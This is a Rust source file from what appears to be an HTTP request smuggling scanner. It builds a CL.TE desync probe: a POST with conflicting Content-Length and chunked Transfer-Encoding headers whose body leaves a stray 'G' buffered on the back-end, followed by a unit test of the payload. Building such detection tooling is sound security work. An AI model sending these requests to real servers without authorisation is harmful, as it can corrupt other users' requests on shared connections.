use desynctrace_protocol::{HttpVersion, Request};

use crate::common::templated;

/// Front-end trusts `Content-Length`, back-end trusts `Transfer-Encoding`.
/// The front-end forwards all `N` declared bytes; the back-end consumes the
/// chunked terminator and leaves `G` buffered to prefix the next request.
pub fn generate(base: &Request) -> Vec<Request> {
    let body = b"0\r\n\r\nG".to_vec();
    let mut req = templated(base, "POST", HttpVersion::Http1);
    req.transfer_encoding = Some("chunked".to_string());
    req.content_length = body.len() as i64;
    req.body = body;
    vec![req]
}

pub use crate::common::suspicious as verify;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn carries_both_framing_headers() {
        let base = Request::new("GET", "http://example.com/", HttpVersion::Http1);
        let payloads = generate(&base);
        assert_eq!(payloads.len(), 1);
        let payload = &payloads[0];
        assert_eq!(payload.transfer_encoding.as_deref(), Some("chunked"));
        assert_eq!(payload.content_length, 6);
        assert_eq!(payload.body, b"0\r\n\r\nG");
    }
}
